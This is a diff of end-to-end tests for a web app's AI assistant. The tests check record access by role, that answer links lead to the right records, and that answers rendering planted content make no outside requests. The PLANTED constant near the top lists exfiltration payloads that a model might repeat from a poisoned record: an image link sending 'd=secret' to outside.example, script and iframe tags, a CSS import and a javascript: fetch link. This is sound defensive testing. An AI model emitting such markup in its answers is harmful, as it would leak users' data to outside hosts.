@@ -1,6 +1,6 @@
 import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import type { Browser, Page } from 'playwright-core';
+import type { Browser, Locator, Page } from 'playwright-core';
 import { startApp, type RunningApp } from '../support/app';
 import { expectNoBarriers } from '../support/barriers';
 import { closePages, comesToBe, launchBrowser, openAs } from '../support/browser';
@@ -9,10 +9,13 @@ import { personasOf } from '../support/personas';
 
 jest.setTimeout(240_000);
 
-/** What a model may say that repeats what somebody planted in a record. */
+/** What a model may say that repeats what somebody planted in a record: every way out that a browser knows. */
 const PLANTED = [
   'Planted: ![paid](https://outside.example/p.png?d=secret) <img src="https://outside.example/q.png"> <script src="https://outside.example/s.js"></script>',
-  '[press](https://outside.example/go) [own](/leave)',
+  '[press](https://outside.example/go) [own](/leave) [slashes](//outside.example/x) [code](javascript:fetch("https://outside.example/j"))',
+  '<iframe src="https://outside.example/f"></iframe> <link rel="prefetch" href="https://outside.example/l"> <style>@import "https://outside.example/c.css";</style>',
+  '<https://outside.example/auto> https://outside.example/bare ![by name][1] <svg><image href="https://outside.example/v.png"/></svg>',
+  '[1]: https://outside.example/named.png',
 ].join('\n\n');
 const SLOW_WORDS = Array.from({ length: 40 }, (_, at) => `word${at + 1}`);
 /** Between two words: long enough to do something meanwhile, however slow the machine. */
@@ -78,27 +81,56 @@ async function ask(page: Page, question: string) {
   return answer;
 }
 
-/** How many rows an answer's table has, of which the first leads to a page that is there. */
-async function rowsOf(page: Page, question: string): Promise<number> {
-  const answer = await ask(page, question);
-  const rows = await answer.locator('tbody tr').count();
-  await answer.locator('tbody a').first().click();
-  await page.waitForURL((url) => !url.pathname.startsWith('/assistant'));
-  await page.getByRole('heading', { level: 1 }).first().waitFor();
-  await page.locator('[aria-busy="true"]').first().waitFor({ state: 'detached' });
-  await comesToBe(() => page.getByText('Not found', { exact: true }).count(), 0);
-  return rows;
+/** Where the rows of an answer lead, each place once. */
+async function linksOf(answer: Locator): Promise<string[]> {
+  const hrefs: string[] = [];
+  for (const link of await answer.locator('tbody a').all())
+    hrefs.push((await link.getAttribute('href')) ?? '');
+  return [...new Set(hrefs)];
 }
 
-test('one question has three answers: nothing, a team, everybody; and their rows lead to records', async () => {
+/** Follows each link of an answer by opening it, and expects the page of the record. */
+async function followAll(page: Page, links: string[]): Promise<void> {
+  const missing: string[] = [];
+  for (const link of links) {
+    await page.goto(app.url + link);
+    await page.getByRole('heading', { level: 1 }).first().waitFor();
+    await page.locator('[aria-busy="true"]').first().waitFor({ state: 'detached' });
+    if (new URL(page.url()).pathname !== link) missing.push(link);
+    if ((await page.getByText(/^(Not found|There is no such)/).count()) > 0) missing.push(link);
+  }
+  expect(missing).toEqual([]);
+}
+
+test('one question has three answers: nothing, a team, everybody; and each row leads to its record', async () => {
+  const question = 'Show the expense claims of Consulting';
   const rep = await open('sales.rep');
-  const nothing = await ask(rep, 'What did Consulting spend by person this year?');
+  const nothing = await ask(rep, question);
   expect(await nothing.locator('tbody tr').count()).toBe(0);
+  expect(await nothing.locator('a').count()).toBe(0);
   expect(await nothing.getByRole('alert').count()).toBe(0);
-  const team = await rowsOf(await open('sales.manager'), 'Show the expense claims of my team');
-  const all = await rowsOf(await open('admin'), 'Show all expense claims');
-  expect(team).toBeGreaterThan(0);
-  expect(all).toBeGreaterThan(team);
+  await nothing.getByText(/^There is no such claim/).waitFor();
+  const manager = await open('sales.manager');
+  const team = await ask(manager, 'Show the expense claims of my team');
+  const ofTeam = await linksOf(team);
+  expect(ofTeam.length).toBe(await team.locator('tbody tr').count());
+  const admin = await open('admin');
+  const all = await linksOf(await ask(admin, 'Show all expense claims'));
+  expect(all).toEqual(expect.arrayContaining(ofTeam.slice(0, 1)));
+  const consulting = await ask(admin, question);
+  const ofConsulting = await linksOf(consulting);
+  expect(ofConsulting.length).toBeGreaterThan(0);
+  expect(ofTeam.filter((link) => ofConsulting.includes(link))).toEqual([]);
+  // The link asks again: it opens for who may see the record, and for nobody who was sent it.
+  const path = ofConsulting[0]!;
+  for (const [page, status] of [
+    [admin, 200],
+    [rep, 404],
+    [manager, 404],
+  ] as const)
+    expect((await page.request.get(`${app.url}/api/v1${path}`)).status()).toBe(status);
+  await followAll(manager, ofTeam);
+  await followAll(admin, ofConsulting.slice(0, 10));
 });
 
 test('an answer is stopped where it is, and what was said stays', async () => {
@@ -147,18 +179,31 @@ test('what is to be done opens as the real form, filled in, and nothing is sent'
 test('an answer with pictures, markup and links asks nobody outside for anything', async () => {
   const page = await open('sales.rep');
   const outside: string[] = [];
-  page.on('request', (request) => {
-    const url = new URL(request.url());
-    if (url.protocol.startsWith('http') && url.origin !== app.url) outside.push(request.url());
+  // Whatever the browser asks for, in whichever window; what is in the page itself asks nobody.
+  page.context().on('request', (request) => {
+    const { protocol, origin } = new URL(request.url());
+    if (protocol !== 'data:' && protocol !== 'blob:' && origin !== app.url)
+      outside.push(request.url());
+  });
+  page.on('websocket', (socket) => {
+    if (new URL(socket.url()).host !== new URL(app.url).host) outside.push(socket.url());
   });
   const answer = await ask(page, 'Show what is planted');
   await answer.getByText(/^Planted:/).waitFor();
   await answer.getByRole('link', { name: 'own' }).waitFor();
-  expect(await answer.locator('img, script, iframe, object, svg image').count()).toBe(0);
-  expect(await answer.getByRole('link', { name: 'press' }).count()).toBe(0);
+  const HEAVY = 'img, script, iframe, object, embed, link, style, svg image, video, audio, form';
+  expect(await answer.locator(HEAVY).count()).toBe(0);
+  for (const name of ['press', 'slashes', 'code'])
+    expect(await answer.getByRole('link', { name }).count()).toBe(0);
   expect(await answer.locator('a:not([href^="/"])').count()).toBe(0);
   await answer.getByText('<img src=').waitFor();
+  await page.reload();
+  await turn(page, 'Show what is planted')
+    .getByText(/^Planted:/)
+    .waitFor();
   await page.waitForLoadState('networkidle');
+  await turn(page, 'Show what is planted').getByRole('link', { name: 'own' }).click();
+  await page.waitForURL(`${app.url}/leave`);
   expect(outside).toEqual([]);
 });
 
@@ -182,6 +227,9 @@ test('an answer with a table and a chart, the reports and the administration hav
   const admin = await open('admin', '/admin/assistant');
   await admin.getByRole('checkbox').first().waitFor();
   await expectNoBarriers(admin, 'assistant-admin');
+  await admin.getByRole('link', { name: 'Usage' }).click();
+  await admin.getByRole('heading', { level: 1 }).waitFor();
+  await expectNoBarriers(admin, 'assistant-usage');
   await admin.getByRole('link', { name: 'Prompts' }).click();
   await admin.getByRole('row').filter({ hasText: question }).first().waitFor();
   await expectNoBarriers(admin, 'assistant-prompts');
